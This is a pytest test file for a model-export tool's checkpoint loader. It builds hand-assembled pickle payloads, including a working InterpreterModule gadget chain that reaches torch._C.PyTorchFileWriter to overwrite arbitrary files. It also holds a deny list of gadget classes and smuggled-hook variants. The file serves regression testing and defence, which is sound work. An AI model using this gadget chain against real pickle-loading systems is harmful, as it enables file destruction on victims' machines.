"""--trust-code admits only the classes an image classifier is built from, never a gadget.

Issue 21: the allowlist once admitted every nn.Module class in torch, including
``torch.export.unflatten.InterpreterModule``, whose forward runs an fx graph held in the file.
A file of fake graph nodes made it walk ``torch.Tensor.__torch_dispatch__.__self__`` (torch._C)
to ``PyTorchFileWriter(path)`` from a state-dict hook, overwriting any file while export still
passed. Each file here is hand-assembled pickle opcodes (no pickler of ours decides what it
holds); the first is a working exploit, proven in a subprocess that loads it the way the old
allowlist did.
"""

from __future__ import annotations

import hashlib
import io
import subprocess
import sys
from pathlib import Path

import pytest
import torch

from alexnet_deploy.checkpoints.load import load_checkpoint
from alexnet_deploy.checkpoints.pickles import (
    REFUSED_HOW, TORCH_NN_CLASSES, allowed_class, check_loaded, trusted_class_names, trusted_classes, unsafe_base, user_classes,
)
from alexnet_deploy.errors import CheckpointError
from pickle_bytes import global_ as _global, text as _text, zip_with_data_pkl  # tests/pickle_bytes.py

EMPTY = b"}"  # EMPTY_DICT
MODULE_STATE = b"".join(_text(key) + EMPTY for key in ("_parameters", "_buffers", "_modules", "_backward_hooks", "_forward_hooks"))


def _obj(module: str, name: str, attrs: bytes = b"") -> bytes:
    """GLOBAL module.name, NEWOBJ(), then BUILD with an nn.Module's own entries and ``attrs``."""
    return _global(module, name) + b")\x81" + b"}(" + _text("training") + b"\x89" + MODULE_STATE + attrs + b"ub"


def _dict(*pairs: bytes) -> bytes:
    return b"}(" + b"".join(pairs) + b"u"


def _sequential(attrs: bytes = b"", modules: bytes = b"") -> bytes:
    """A Sequential whose extra state is ``attrs``; ``modules`` replaces its (empty) _modules."""
    seq = _obj("torch.nn.modules.container", "Sequential", attrs + (_text("_modules") + modules if modules else b""))
    return b"\x80\x02" + seq + b"."


def _writer_node(victim: str) -> bytes:
    """A fake fx node: call_module on an attribute chain from the interpreted module to torch._C.PyTorchFileWriter."""
    return _obj("torch.nn.modules.linear", "Identity", (
        _text("op") + _text("call_module") + _text("target") + _text("t.__torch_dispatch__.__self__.PyTorchFileWriter")
        + _text("args") + b"(" + _text(victim) + b"t" + _text("kwargs") + EMPTY + _text("_input_nodes") + EMPTY
        + _text("meta") + EMPTY + _text("name") + _text("n")))


def _interpreter(victim: str) -> bytes:
    """An InterpreterModule whose ``graph`` is a fake Graph (an Identity with a ``nodes`` list)."""
    graph = _obj("torch.nn.modules.linear", "Identity", _text("nodes") + b"]" + _writer_node(victim) + b"a")
    return _obj("torch.export.unflatten", "InterpreterModule", (
        _text("graph_module") + b"\x88" + _text("_run_with_interpreter") + b"\x88"
        + _text("t") + _global("torch", "Tensor") + _text("graph") + graph))


def interpreter_in_state_dict_hook(victim: str) -> bytes:
    """The reported attack: an ordinary Sequential whose state-dict hook is the InterpreterModule."""
    return _sequential(_text("_state_dict_hooks") + _dict(b"K\x00" + _interpreter(victim)))


def interpreter_as_model(victim: str) -> bytes:
    """The same graph run by forward: the model is the InterpreterModule (export calls it on a probe input)."""
    return b"\x80\x02" + _interpreter(victim) + b"."


# Classes that hold a graph, a program or a callable (or are no layer): refused by name, with or without trust.
GADGET_CLASSES = [
    "torch.export.unflatten.InterpreterModule", "torch.export.unflatten.InterpreterModuleDispatcher",
    "torch.export.unflatten.UnflattenedModule", "torch.fx.graph_module.GraphModule", "torch.fx.graph.Graph",
    "torch.fx.node.Node", "torch.fx.interpreter.Interpreter", "torch.jit._script.RecursiveScriptModule",
    "torch.jit._script.ScriptModule", "torch.jit.ScriptModule", "torch._C.PyTorchFileWriter", "torch._C.ScriptModule",
    "torch.nn.modules.module.Module", "torch.nn.modules.linear.LazyLinear", "torch.nn.modules.activation.MultiheadAttention",
    "torch.nn.utils.weight_norm.WeightNorm", "torch.utils.checkpoint.CheckpointFunction", "torch.utils.data.DataLoader",
    "torch.ao.nn.quantized.modules.linear.Linear", "torch._dynamo.eval_frame.OptimizedModule", "functools.partial",
    "builtins.getattr", "types.FunctionType", "operator.attrgetter",
]


def _named_gadget(name: str) -> bytes:
    """A Sequential holding one instance of ``name`` (NEWOBJ): all the scan needs to see."""
    module, _, attr = name.rpartition(".")
    return _sequential(modules=_dict(_text("0") + _global(module, attr) + b")\x81"))


# Files naming only admitted classes, whose state smuggles in what our own calls would run.
SMUGGLED = {  # name -> (data.pkl, what the refusal names)
    "hook-is-a-module": (_sequential(_text("_state_dict_hooks") + _dict(b"K\x00" + _obj("torch.nn.modules.linear", "Identity"))),
                         "_state_dict_hooks"),
    "forward-hook-is-a-class": (_sequential(_text("_forward_hooks") + _dict(b"K\x00" + _global("torch.nn.modules.linear", "Linear"))),
                                "_forward_hooks"),
    "pre-hook-is-a-torch-function": (_sequential(_text("_forward_pre_hooks") + _dict(b"K\x00" + _global("torch.serialization", "_get_layout"))),
                                     "_forward_pre_hooks"),
    "forward-shadowed": (_sequential(_text("forward") + _obj("torch.nn.modules.linear", "Identity")), "Sequential.forward"),
    "compiled-call-impl": (_sequential(_text("_compiled_call_impl") + _global("torch.nn.modules.linear", "Identity")), "_compiled_call_impl"),
    "tensor-class-attribute": (_sequential(_text("t") + _global("torch", "Tensor")), "Sequential.t"),
    "function-attribute": (_sequential(_text("f") + _global("_codecs", "encode")), "Sequential.f"),
    "module-outside-_modules": (_sequential(_text("m") + _obj("torch.nn.modules.linear", "Identity")), "Sequential.m"),
    "class-in-_modules": (_sequential(modules=_dict(_text("0") + _global("torch", "Tensor"))), "_modules['0']"),
    "ordered-dict-attribute": (_sequential(_text("_state_dict_hooks") + _global("collections", "OrderedDict") + b")R"
                               + _dict(_text("values") + _obj("torch.nn.modules.linear", "Identity")) + b"b"), "_state_dict_hooks.values"),
    "hook-in-a-submodule": (_sequential(modules=_dict(_text("0") + _obj("torch.nn.modules.linear", "Identity",
                            _text("_forward_hooks") + _dict(b"K\x00" + _obj("torch.nn.modules.linear", "Identity"))))), "Identity._forward_hooks"),
}


def _snapshot(folder: Path) -> dict:
    return {str(p): (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns, p.stat().st_size)
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _write(tmp_path: Path, name: str, data_pkl: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(zip_with_data_pkl(data_pkl))
    return path


@pytest.fixture
def victim(tmp_path) -> Path:
    path = tmp_path / "victim.txt"
    path.write_text("precious\n")
    return path


# ---- the exploit is real -------------------------------------------------------------------------------

PROOF = """
import sys, torch
from torch.export.unflatten import InterpreterModule
with torch.serialization.safe_globals([torch.nn.Sequential, torch.nn.Identity, InterpreterModule]):
    model = torch.load(sys.argv[1], weights_only=True)  # what the old allowlist let through with --trust-code
model.state_dict()  # the old loader's first call on a pickled model: runs its state-dict hooks
model(torch.zeros(1, 3, 8, 8))  # what export does next with a model of no known layout: runs its forward
"""


@pytest.mark.parametrize("make", [interpreter_in_state_dict_hook, interpreter_as_model], ids=["state-dict-hook", "model"])
def test_the_interpreter_gadget_overwrites_a_file_when_its_classes_are_admitted(tmp_path, victim, make):
    """Proof that the file is a working exploit (in a child process, on a file in tmp_path only)."""
    path = _write(tmp_path, "gadget.pth", make(str(victim)))
    subprocess.run([sys.executable, "-c", PROOF, str(path)], check=True, cwd=tmp_path, capture_output=True, timeout=300)
    assert victim.read_bytes()[:2] == b"PK", "PyTorchFileWriter truncated the file and wrote a zip into it"


# ---- refused, with and without trust, and nothing changes ---------------------------------------------

@pytest.mark.parametrize("trust", [False, True], ids=["default", "trust-code"])
@pytest.mark.parametrize("make", [interpreter_in_state_dict_hook, interpreter_as_model], ids=["state-dict-hook", "model"])
def test_the_interpreter_gadget_is_refused_and_changes_nothing(tmp_path, victim, cli, make, trust):
    path = _write(tmp_path, "gadget.pth", make(str(victim)))
    before = _snapshot(tmp_path)
    with pytest.raises(CheckpointError) as info:
        load_checkpoint(path, trust_code=trust)
    assert "refusing torch.export.unflatten.InterpreterModule" in str(info.value)
    assert "--trust-code does not load it" in info.value.fix
    out = tmp_path / "out.onnx"
    for command in (["export", path, "-o", out], ["inspect", path]):
        result = cli.fails(2, *command, *(["--trust-code"] if trust else []))
        lines = [line for line in result.stderr.splitlines() if line.strip()]
        assert len(lines) == 2, result.stderr  # the problem and its fix, nothing else
        assert "refusing torch.export.unflatten.InterpreterModule" in lines[0] and REFUSED_HOW in lines[0]
        assert "--trust-code does not load it" in lines[1] and "add --trust-code" not in result.stderr
    assert not out.exists()
    assert _snapshot(tmp_path) == before
    assert victim.read_text() == "precious\n"


@pytest.mark.parametrize("name", GADGET_CLASSES)
def test_gadget_classes_are_refused_by_name_even_with_trust(tmp_path, victim, name):
    path = _write(tmp_path, "named.pth", _named_gadget(name))
    before = _snapshot(tmp_path)
    assert allowed_class(name, {}) is None
    for trust in (False, True):
        with pytest.raises(CheckpointError) as info:
            load_checkpoint(path, trust_code=trust)
        assert str(info.value).startswith(f"{path}: refusing {name}: {REFUSED_HOW}."), str(info.value)
        assert "may be malicious" in info.value.fix and "pass --trust-code" not in info.value.fix
    assert _snapshot(tmp_path) == before


@pytest.mark.parametrize("case", list(SMUGGLED))
def test_admitted_classes_cannot_smuggle_hooks_or_callables(tmp_path, victim, cli, case):
    """Every class named is admitted, so only the loaded state can be checked: it is, before anything is called."""
    data_pkl, where = SMUGGLED[case]
    path = _write(tmp_path, f"{case}.pth", data_pkl)
    before = _snapshot(tmp_path)
    untrusted = cli.fails(2, "inspect", path)  # ordinary classes only: without trust the refusal says what trust runs
    assert "--trust-code" in untrusted.stderr and "runs the constructors and __setstate__" in untrusted.stderr
    with pytest.raises(CheckpointError) as info:
        load_checkpoint(path, trust_code=True)
    assert where in str(info.value) and "not hooks or callables" in str(info.value), str(info.value)
    assert "--trust-code does not load it" in info.value.fix
    result = cli.fails(2, "export", path, "--trust-code", "-o", tmp_path / "out.onnx")
    assert where in result.stderr and len([line for line in result.stderr.splitlines() if line.strip()]) == 2, result.stderr
    assert _snapshot(tmp_path) == before


def test_a_model_file_class_that_subclasses_a_gadget_is_not_admitted(tmp_path):
    from torch.export.unflatten import InterpreterModule

    class Net(InterpreterModule):
        pass

    class Fine(torch.nn.Sequential):
        pass

    assert unsafe_base(Net) == "torch.export.unflatten.InterpreterModule"
    assert unsafe_base(torch.fx.GraphModule) == "torch.fx.graph_module.GraphModule"
    assert unsafe_base(Fine) is None and unsafe_base(torch.nn.Linear) is None
    assert user_classes({"Net": Net, "Fine": Fine}, None) == {"__main__.Fine": Fine}
    path = _write(tmp_path, "net.pth", b"\x80\x02" + _obj("__main__", "Net") + b".")
    with pytest.raises(CheckpointError) as info:
        load_checkpoint(path, trust_code=True, extra_classes={"Net": Net})
    assert "refusing __main__.Net: it subclasses torch.export.unflatten.InterpreterModule" in str(info.value)
    assert "--trust-code does not load it" in info.value.fix


def test_the_model_file_admits_what_it_declares_not_what_it_imports():
    import types

    from torch.export.unflatten import InterpreterModule

    class Net(torch.nn.Module):
        pass

    module = types.ModuleType("mymodel")
    Net.__module__ = "mymodel"
    module.Net, module.Linear, module.InterpreterModule, module.GraphModule = Net, torch.nn.Linear, InterpreterModule, torch.fx.GraphModule
    module.MHA = torch.nn.MultiheadAttention  # an nn.Module class of torch that trust does not admit
    allowed = user_classes(None, {"mymodel": module})
    assert allowed["mymodel.Net"] is Net and allowed["__main__.Net"] is Net
    assert allowed["mymodel.Linear"] is torch.nn.Linear
    assert not {InterpreterModule, torch.fx.GraphModule, torch.nn.MultiheadAttention} & set(allowed.values())


# ---- what trust admits -------------------------------------------------------------------------------

def test_trust_admits_exactly_the_listed_layers_and_classifiers():
    import torchvision

    names = trusted_class_names()
    assert names == sorted(trusted_classes()) and len(names) == len(TORCH_NN_CLASSES) + 11
    for name, cls in trusted_classes().items():
        assert f"{cls.__module__}.{cls.__qualname__}" == name and issubclass(cls, torch.nn.Module)
        assert name.startswith(("torch.nn.modules.", "torchvision.models.", "torchvision.ops.misc.")), name
        assert unsafe_base(cls) is None, name
        assert not any(getattr(base, "__module__", "").startswith(("torch.fx", "torch.export", "torch.jit", "torch._C")) for base in cls.__mro__)
    assert "torchvision.models.alexnet.AlexNet" in names and "torch.nn.modules.normalization.LocalResponseNorm" in names
    assert trusted_classes()["torchvision.models.resnet.ResNet"] is torchvision.models.ResNet


def test_the_refusal_suggests_trust_only_for_an_ordinary_class(tmp_path, cli):
    plain = _write(tmp_path, "plain.pth", _sequential(modules=_dict(_text("0") + _obj("torch.nn.modules.conv", "Conv2d"))))
    untrusted = cli.fails(2, "export", plain, "-o", tmp_path / "a.onnx")
    assert "add --trust-code" in untrusted.stderr and "--trust-code runs the constructors and __setstate__" in untrusted.stderr
    mine = _write(tmp_path, "mine.pth", b"\x80\x02" + _obj("__main__", "Net") + b".")
    assert "--trust-code --model FILE.py:Net" in cli.fails(2, "export", mine, "-o", tmp_path / "b.onnx").stderr
    gadget = _write(tmp_path, "gadget.pth", _named_gadget("torch.fx.graph_module.GraphModule"))
    refused = cli.fails(2, "export", gadget, "-o", tmp_path / "c.onnx")
    assert "refusing torch.fx.graph_module.GraphModule" in refused.stderr and "add --trust-code" not in refused.stderr
    assert "pass --trust-code" not in refused.stderr and "does not load it either" in refused.stderr


@pytest.mark.parametrize("build", ["resnet18", "squeezenet1_1", "mobilenet_v2"])
def test_torchvision_classifiers_still_load_with_trust(tmp_path, build):
    import torchvision

    torch.manual_seed(0)
    model = getattr(torchvision.models, build)(num_classes=3).eval()
    path = tmp_path / f"{build}.pth"
    torch.save(model, path)
    with pytest.raises(CheckpointError, match="add --trust-code"):
        load_checkpoint(path)
    ckpt = load_checkpoint(path, trust_code=True)
    assert type(ckpt.module) is type(model) and ckpt.format == "pickled-module"
    x = torch.randn(1, 3, 64, 64)
    with torch.no_grad():
        assert torch.equal(ckpt.module(x), model(x))


def test_a_seed_whole_model_with_its_class_still_loads(tmp_path):
    """What users do: torch.save(model) of their script's AlexNet (seed 003), loaded with --model's class."""
    from seed_models import Seed003AlexNet, alive

    model = alive(Seed003AlexNet(num_classes=5), 1).eval()
    buffer = io.BytesIO()
    torch.save({"model": model, "epoch": 3, "classes": ["a", "b", "c", "d", "e"]}, buffer)
    path = tmp_path / "whole.pth"
    path.write_bytes(buffer.getvalue())
    ckpt = load_checkpoint(path, trust_code=True, extra_classes={"Seed003AlexNet": Seed003AlexNet},
                           extra_modules={"seed_models": sys.modules[Seed003AlexNet.__module__]})
    assert type(ckpt.module) is Seed003AlexNet and ckpt.labels == ["a", "b", "c", "d", "e"] and ckpt.info["epoch"] == 3
    x = torch.randn(1, 3, 224, 224)
    with torch.no_grad():
        assert torch.equal(ckpt.module(x), model(x))


def test_check_loaded_accepts_plain_settings_and_refuses_callables():
    model = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.ReLU())
    classes = [torch.nn.Sequential, torch.nn.Conv2d, torch.nn.BatchNorm2d, torch.nn.ReLU]
    check_loaded(Path("m.pth"), {"model": model, "epoch": 1, "acc": [0.5], "opt": {"lr": 0.1, "betas": (0.9, 0.99)}}, classes)
    with pytest.raises(CheckpointError, match="refusing the file's object"):
        check_loaded(Path("m.pth"), model, classes[:1])  # a module of a class the file did not name
    with pytest.raises(CheckpointError, match=r"\['f'\]"):
        check_loaded(Path("m.pth"), {"f": print}, classes)
    tensor = torch.zeros(2)
    tensor.float = torch.nn.Identity()  # what _rebuild_parameter_with_state can set: module.float() would call it
    with pytest.raises(CheckpointError, match=r"\['w'\]\.float"):
        check_loaded(Path("m.pth"), {"w": tensor}, classes)
    model[2].register_forward_hook(lambda *a: None)
    with pytest.raises(CheckpointError, match="ReLU._forward_hooks"):
        check_loaded(Path("m.pth"), model, classes)


def test_the_docs_list_what_trust_admits():
    docs = (Path(__file__).resolve().parents[2] / "docs" / "export.md").read_text()
    section = docs[docs.index("#### What `--trust-code` admits"):]
    listed = lambda name: any(f"{lead}{name.rpartition('.')[2]}`" in section for lead in ("`", "."))  # noqa: E731  `Conv2d`, `alexnet.AlexNet`
    missing = [name for name in trusted_class_names() if not listed(name)]
    assert not missing, f"docs/export.md does not list {missing}"
    assert "InterpreterModule" in docs and "GraphModule" in docs  # the gadgets named in the trust section
